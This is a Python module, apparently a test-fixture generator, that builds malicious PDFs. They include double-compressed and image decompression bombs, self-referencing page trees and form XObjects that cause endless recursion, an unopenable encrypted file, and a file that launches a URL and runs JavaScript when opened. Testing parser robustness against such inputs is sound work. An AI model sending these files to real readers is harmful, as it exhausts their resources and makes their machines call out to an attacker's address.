"""PDF files that attack whatever reads them, made by hand: each is small, each is told by its name."""

import zlib

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]%s>>"


def written(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A file of these objects, numbered from 1, without a table of places: readers rebuild it."""
    bodies = b"\n".join(b"%d 0 obj%s endobj" % (number, body) for number, body in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + bodies + b"\ntrailer<</Root 1 0 R" + trailer + b">>\n%%EOF"


def paged(count: int) -> bytes:
    """So many pages, all one and the same object."""
    kids = b" ".join([b"3 0 R"] * count)
    return written(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count), PAGE % b""
    )


def locked() -> bytes:
    """Any password at all: neither of its two checks fits the empty one."""
    encrypt = b"<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>" % (b"11" * 32, b"22" * 32)
    return written(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE % b"",
        encrypt,
        trailer=b"/Encrypt 4 0 R/ID[<00><00>]",
    )


def bomb(gigabytes: int = 6) -> bytes:
    """A page of which the drawing unfolds to gigabytes: packed twice, a few kilobytes."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b"0 0 m " * 170_000) for _ in range(gigabytes * 1024)) + packer.flush()
    twice = zlib.compress(once, 9)
    stream = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(twice), twice)
    return written(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE % b"/Contents 4 0 R",
        stream,
    )


def picture_bomb(side: int = 30_000) -> bytes:
    """A picture of nearly a gigapixel in a few kilobytes."""
    row = zlib.compressobj(9)
    packed = b"".join(row.compress(bytes(side * 100)) for _ in range(side // 100)) + row.flush()
    picture = (
        b"<</Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceGray"
        b"/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (side, side, len(packed), packed)
    )
    draw = b"<</Length 29>>stream\nq 595 0 0 842 0 0 cm /I Do Q\nendstream"
    resources = b"/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>"
    return written(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE % resources,
        draw,
        picture,
    )


def endless_tree() -> bytes:
    """A tree of pages that contains itself."""
    return written(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")


def endless_form() -> bytes:
    """A drawing that draws itself."""
    form = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>/Length 5>>"
        b"stream\n/F Do\nendstream"
    )
    draw = b"<</Length 5>>stream\n/F Do\nendstream"
    resources = b"/Contents 5 0 R/Resources<</XObject<</F 4 0 R>>>>"
    return written(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE % resources,
        form,
        draw,
    )


def calling_home(address: str) -> bytes:
    """A file that asks its reader to open an address and to run a script when it is opened."""
    return written(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE % b"/AA<</O 5 0 R>>",
        b"<</S/URI/URI(%s)>>" % address.encode(),
        b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % address.encode(),
    )
